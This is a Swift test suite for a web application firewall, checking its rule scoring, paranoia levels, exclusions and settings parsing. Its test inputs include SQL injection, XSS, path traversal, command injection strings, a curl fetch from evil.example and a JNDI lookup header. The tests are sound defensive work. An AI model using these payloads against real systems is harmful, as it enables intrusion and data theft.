import Foundation
import Testing

@testable import SentinelWAF

private func policy(_ edit: (inout WAFSettings) -> Void = { _ in }) throws -> WAFPolicy {
    var s = WAFSettings()
    edit(&s)
    return try s.policy()
}

private func request(_ uri: String, method: String = "GET", headers: [(String, String)] = []) -> WAFRequest {
    var h: [(name: String, value: String)] = [("host", "shop.example"), ("user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"),
                                              ("accept", "text/html,application/xhtml+xml")]
    for (n, v) in headers {
        h.removeAll { $0.name == n }
        h.append((n, v))
    }
    return WAFRequest(method: method, uri: uri, headers: h)
}

private func head(_ p: WAFPolicy, _ r: WAFRequest) -> WAFVerdict {
    var carry = WAFCarry()
    return p.evaluate(r, phase: .head, carry: &carry)
}

private func body(_ p: WAFPolicy, _ r: WAFRequest, _ text: String) -> WAFVerdict {
    var carry = WAFCarry()
    _ = p.evaluate(r, phase: .head, carry: &carry)
    return p.evaluate(r, phase: .body, body: Array(text.utf8), carry: &carry)
}

@Suite struct WAFStarterRuleTests {
    @Test(arguments: [
        ("/products?id=1%20UNION%20ALL%20SELECT%20username,password%20FROM%20users--", "100101"),
        ("/login?user=admin'%20OR%20'1'='1", "100102"),
        ("/login?user=x'%20or%20username%20like%20'%25", "100102"),
        ("/item?id=5+or+1=1", "100103"),
        ("/item?id=1);waitfor%20delay%20'0:0:5'--", "100105"),
        ("/item?id=1;%20DROP%20TABLE%20users", "100106"),
        ("/item?id=1;%20delete%20from%20users%20where%201", "100106"),
        ("/item?id=1%20and%20sleep(5)", "100105"),
        ("/q?s=1%27%20and%20(select%201%20from%20information_schema.tables)", "100107"),
        ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "100201"),
        ("/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E", "100202"),
        ("/static/../../etc/passwd", "100301"),
        ("/download?file=..%252f..%252f..%252fetc%252fpasswd", "100301"),
        ("/download?file=..%5c..%5cwindows%5cwin.ini", "100301"),
        ("/.git/config", "100302"),
        ("/read?f=report.pdf%00.txt", "100303"),
        ("/ping?host=127.0.0.1;cat%20/etc/hosts", "100401"),
        ("/ping?host=x%7Cwhoami", "100401"),
        ("/ping?host=8.8.8.8%26%26curl%20http://evil.example/x.sh", "100406"),
        ("/ping?host=$(id)", "100402"),
        ("/run?cmd=x%24%7BIFS%7Dcat", "100403"),
    ])
    func attacksInTheURIAreBlocked(uri: String, rule: String) throws {
        // Blocking mode stops at the threshold, so which rules matched is read in detect-only mode.
        let all = head(try policy { $0.detectOnly = true }, request(uri))
        #expect(all.ruleIDs.contains(rule), "\(uri): \(all.ruleIDs)")
        let v = head(try policy(), request(uri))
        #expect(v.block, "\(uri) scored \(v.score)")
    }

    @Test func attacksInTheBodyAreSeenInTheBodyPhase() throws {
        let p = try policy()
        let r = request("/comments", method: "POST", headers: [("content-type", "application/x-www-form-urlencoded")])
        #expect(!head(p, r).block)
        let v = body(p, r, "name=x&comment=%3Cscript%3Edocument.cookie%3C%2Fscript%3E")
        #expect(v.ruleIDs.contains("100201"))
        #expect(v.block)
        let sql = body(p, r, #"{"id":"1' or 'a'='a"}"#)
        #expect(sql.ruleIDs == ["100102"])
        // JSON escapes do not hide a payload.
        let escaped = body(p, r, #"{"bio":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#)
        #expect(escaped.ruleIDs == ["100201"])
        #expect(WAFTransform.jsUnescape.apply(Array(#"a\x3cb\u00e9\u12"#.utf8)) == Array(#"a<bé\u12"#.utf8))
    }

    @Test func scannersAndJNDIInHeadersAreBlocked() throws {
        let p = try policy()
        let scan = head(p, request("/", headers: [("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")]))
        #expect(scan.ruleIDs == ["100501"])
        #expect(scan.block)
        #expect(scan.tags.contains("scanner"))
        let jndi = head(p, request("/", headers: [("x-api-version", "${jndi:ldap://evil.example/a}")]))
        #expect(jndi.ruleIDs == ["100404"])
        #expect(head(p, request("/", method: "TRACE")).ruleIDs == ["100601"])
    }

    @Test(arguments: [
        "/",
        "/api/v1/users/12345/orders?page=2&sort=-created_at&fields=id,total,status",
        "/search?q=rock+and+roll&lang=en",
        "/search?q=select+the+best+option+from+the+menu",
        "/search?q=O%27Brien%20and%20sons",
        "/blog/2024/10/why-we-moved-to-swift.html?utm_source=news&utm_medium=email",
        "/files/report.v2...final.pdf",
        "/search?q=what+does+%3D%3D+mean+in+javascript",
        "/api/items?filter=price%3E100%20and%20price%3C200",
        "/callback?code=4%2F0AX4XfWh&state=xyz&scope=email%20profile",
        "/wiki/Semicolon;_usage?a=1;b=2",
    ])
    func cleanRequestsPass(uri: String) throws {
        let v = head(try policy(), request(uri, headers: [("cookie", "session=abc123; theme=dark; id=42")]))
        #expect(!v.block, "\(uri) matched \(v.ruleIDs)")
        #expect(v.matches.isEmpty, "\(uri) matched \(v.ruleIDs)")
    }

    @Test(arguments: [
        #"{"name":"Seán O'Brien","comment":"Don't miss it -- really, select the blue one from the list; then update your profile.","tags":["a","b"]}"#,
        "title=Release+notes&body=We+fixed+a+bug+where+1+%3D+1+comparisons+failed.+See+docs%2Fupgrade.md",
        "<?xml version=\"1.0\"?><order><id>42</id><note>Leave at the door &amp; ring twice</note></order>",
        "comment=Send+it%3B+ping+me+later.+The+cats%3B+cat+food+is+fine%3B+ls+is+a+command+%7C+id+card+too",
        #"{"quote":"He said \"yes\" and that is final, \"no\" or people like it"}"#,
        "note=Get+more+sleep+(8+hours)%3B+delete+from+your+list+anything+urgent%3B+shutdown+the+laptop+at+night.+Benchmark+(2024)+results",
    ])
    func cleanBodiesPass(text: String) throws {
        let p = try policy()
        let r = request("/submit", method: "POST", headers: [("content-type", "application/json")])
        let v = body(p, r, text)
        #expect(v.matches.isEmpty, "matched \(v.ruleIDs)")
        #expect(!v.block)
    }

    @Test func everyStarterRuleCompilesWithAUniqueIDAndALevelTag() throws {
        let rules = try WAFStarterRules.rules()
        #expect(Set(rules.map(\.id)).count == rules.count)
        for r in rules {
            #expect(r.tags.contains("paranoia-level/\(r.paranoia)"), "\(r.id)")
            #expect(!r.description.isEmpty)
        }
    }
}

@Suite struct WAFPolicyTests {
    @Test func scoresAddUpToTheThreshold() throws {
        // 100203 (4) alone stays under 5; with 100205 (3) the request is refused.
        let p = try policy()
        let one = head(p, request("/s?q=javascript:void"))
        #expect(one.ruleIDs == ["100203"])
        #expect(one.score == 4)
        #expect(!one.block)
        let two = head(p, request("/s?u=%3Ciframe%20src=javascript:void%3E"))
        #expect(Set(two.ruleIDs) == ["100203", "100205"])
        #expect(two.block)
        let raised = try policy { $0.anomalyThreshold = 10 }
        #expect(!head(raised, request("/s?u=%3Ciframe%20src=javascript:void%3E")).block)
    }

    @Test func paranoiaLevelsEnableMoreRules() throws {
        let uri = "/search?q=select+name+from+the+list"
        #expect(head(try policy(), request(uri)).matches.isEmpty)
        let v = head(try policy { $0.paranoiaLevel = 2 }, request(uri))
        #expect(v.ruleIDs == ["100108"])
        #expect(v.tags.contains("paranoia-level/2"))
        let three = head(try policy { $0.paranoiaLevel = 3 }, request("/s?q=it's"))
        #expect(three.ruleIDs == ["100110"])
    }

    @Test func exclusionsByIDTagAndPath() throws {
        let uri = "/admin/sql?q=1%20union%20select%20x"
        #expect(head(try policy(), request(uri)).block)
        let byPath = try policy { $0.exclusions = [WAFExclusion(ruleIDs: ["100101"], pathPrefix: "/admin/")] }
        #expect(!head(byPath, request(uri)).block)
        #expect(head(byPath, request("/shop?q=1%20union%20select%20x")).block)
        let byTag = try policy { $0.exclusions = [WAFExclusion(tags: ["attack-sqli"])] }
        #expect(head(byTag, request(uri)).matches.isEmpty)
        let disabled = try policy { $0.disabledRules = ["100101"] }
        #expect(head(disabled, request(uri)).matches.isEmpty)
    }

    @Test func detectOnlyReportsEverythingAndBlocksNothing() throws {
        let p = try policy { $0.detectOnly = true }
        let v = head(p, request("/x?a=1%20union%20select%201&b=%3Cscript%3E"))
        #expect(!v.block)
        #expect(v.overThreshold)
        #expect(Set(v.ruleIDs) == ["100101", "100201"])
    }

    @Test func blockingStopsAtTheThresholdAndARuleScoresOncePerRequest() throws {
        let p = try policy()
        let v = head(p, request("/x?a=1%20union%20select%201&b=%3Cscript%3E"))
        #expect(v.ruleIDs == ["100101"])
        // A rule that matched in the head does not score again on the body.
        var carry = WAFCarry()
        let lenient = try policy { $0.anomalyThreshold = 100 }
        let r = request("/x?q=%3Cscript%3E", method: "POST")
        _ = lenient.evaluate(r, phase: .head, carry: &carry)
        let b = lenient.evaluate(r, phase: .body, body: Array("<script>".utf8), carry: &carry)
        #expect(b.matches.isEmpty)
        #expect(b.score == 5)
    }

    @Test func lengthAndContainsOperators() throws {
        #expect(head(try policy(), request("/" + String(repeating: "a", count: 2049))).ruleIDs == ["100602"])
        #expect(head(try policy(), request("/" + String(repeating: "a", count: 2047))).matches.isEmpty)
        let custom = try WAFRuleSpec.decode(#"{"id":"900001","targets":["header:x-debug","query"],"operator":"contains","value":"Letmein","score":5}"#)
        var s = WAFSettings()
        s.customRules = [custom]
        let p = try s.policy()
        let v = head(p, request("/", headers: [("x-debug", "please LETMEIN now")]))
        #expect(v.ruleIDs == ["900001"])
        #expect(v.matches.first?.target == "header:x-debug")
    }
}

@Suite struct WAFSettingsTests {
    @Test func decodesTheKDLShapedJSON() throws {
        let json = #"""
        {"paranoia-level":2,"anomaly-threshold":7,"detect-only":true,"disabled-rules":"100104",
         "exclusion":{"rule-ids":100108,"path-prefix":"/search"},
         "rule":[{"id":"900001","targets":"path","operator":"regex","value":"^/private","tags":["custom"]},
                 {"id":900002,"targets":"query","operator":"length-above","value":10}]}
        """#
        let s = try JSONDecoder().decode(WAFSettings.self, from: Data(json.utf8))
        #expect(s.paranoiaLevel == 2)
        #expect(s.anomalyThreshold == 7)
        #expect(s.detectOnly)
        #expect(s.disabledRules == ["100104"])
        #expect(s.exclusions == [WAFExclusion(ruleIDs: ["100108"], pathPrefix: "/search")])
        let p = try s.policy()
        #expect(p.rules.contains { $0.id == "900002" })
        #expect(!p.rules.contains { $0.id == "100104" })
        #expect(head(p, request("/private/x")).ruleIDs == ["900001"])
    }

    @Test(arguments: [
        (#"{"paranoia":2}"#, "unknown key \"paranoia\""),
        (#"{"rule":{"id":"1","targets":"path","operator":"matches","value":"x"}}"#, "unknown operator"),
        (#"{"rule":{"id":"1","targets":"cookies","operator":"contains","value":"x"}}"#, "unknown target"),
        (#"{"rule":{"id":"1","targets":"path","operator":"regex","value":"(unclosed"}}"#, "invalid regular expression"),
        (#"{"rule":{"id":"100101","targets":"path","operator":"contains","value":"x"}}"#, "two rules have the id"),
        (#"{"paranoia-level":5}"#, "paranoia-level must be 1 to 4"),
        (#"{"disabled-rules":["nope"]}"#, "unknown rule"),
        (#"{"exclusion":{"path-prefix":"/x"}}"#, "needs rule-ids or tags"),
    ])
    func badSettingsAreRefusedWithAReason(json: String, reason: String) {
        do {
            let s = try JSONDecoder().decode(WAFSettings.self, from: Data(json.utf8))
            _ = try s.policy()
            Issue.record("accepted \(json)")
        } catch {
            #expect("\(error)".contains(reason), "\(error)")
        }
    }
}

extension WAFRuleSpec {
    static func decode(_ json: String) throws -> WAFRuleSpec {
        try JSONDecoder().decode(WAFRuleSpec.self, from: Data(json.utf8))
    }
}
